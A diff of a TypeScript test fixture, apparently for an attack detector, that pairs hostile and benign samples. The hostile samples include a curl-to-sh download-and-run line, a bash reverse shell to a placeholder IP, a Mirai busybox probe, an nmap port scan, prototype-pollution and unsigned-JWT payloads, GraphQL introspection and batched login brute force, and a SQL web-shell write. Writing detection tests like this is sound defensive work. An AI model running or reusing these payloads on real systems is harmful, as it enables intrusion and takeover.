@@ -7,6 +7,7 @@ export const commandCases: Record<string, readonly [string, string]> = {
   'download-and-run': ['curl -s http://198.51.100.7/x | sh', 'curl -s http://198.51.100.7/x | less'],
   'made-executable': ['chmod 777 bins.sh', 'chmod 644 notes.txt'],
   'run-from-scratch-folder': ['/tmp/.x1 &', 'ls /tmp'],
+  'scanner-run': ['nmap -sS -p- 198.51.100.0/24', 'apt-get remove nmap'],
   'botnet-check': ['/bin/busybox MIRAI', '/bin/busybox ls'],
   'hex-echo': ["echo -ne '\\x7f\\x45\\x4c\\x46' > .s", "echo -e '\\x67\\x61'"],
   'reverse-shell': ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'ls /dev/tty'],
@@ -67,6 +68,22 @@ export const textCases: Record<string, TextCase> = {
     'POST /x HTTP/1.1\r\nHost: h\r\n\r\n__VIEWSTATE=%2FwEPDwUKMTIzNDU2Nzg5MGRk',
   ),
   'exploited-devices': web('PUT /api/v2/cmdb/system/admin/root HTTP/1.1', 'GET /sdk/docs/language HTTP/1.1'),
+  'prototype-pollution': web(
+    '{"name":"mara","__proto__":{"role":"admin"}}',
+    'What does __proto__ mean, and is "constructor" a property of its prototype?',
+  ),
+  'unsigned-token': web(
+    'token=eyJ0eXAiOiJKV1QiLCJhbGciOiJub25lIn0.eyJ1c2VyIjoibWFyYSJ9.',
+    'token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJ1c2VyIjoibWFyYSJ9.c2lnbmVk',
+  ),
+  'interface-questioned': web(
+    '{"query":"{__schema{types{name}}}"}',
+    '{"query":"{ book(id: 4) { __typename title } }"}',
+  ),
+  'interface-batch': web(
+    '[{"query":"mutation{login(p:\\"1\\"){t}}"},{"query":"mutation{login(p:\\"2\\"){t}}"},{"query":"mutation{login(p:\\"3\\"){t}}"}]',
+    '[{"query":"{ book(id: 4) { title } }"},{"query":"{ book(id: 5) { title } }"},{"query":"{ me { name } }"}]',
+  ),
   'web-shell': web('GET /c99.php HTTP/1.1', 'GET /about.php HTTP/1.1'),
   'file-put': web('PUT /x.jsp HTTP/1.1', 'PUT /remote.php/dav/notes.md HTTP/1.1'),
   'database-to-shell': query("select '<?php' into outfile '/var/www/x.php'", 'select 1'),
